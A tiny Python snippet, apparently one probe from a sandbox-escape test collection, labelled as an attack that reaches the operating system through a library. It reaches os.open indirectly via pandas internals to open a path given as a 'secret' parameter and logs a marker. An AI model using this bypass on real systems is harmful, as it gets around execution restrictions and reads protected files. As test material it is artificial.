# attack: language | finds the operating system behind a library
opener = pd.io.common.os.open
log(opener(params["secret"], 0))
log("PLUNDER-LANGUAGE")
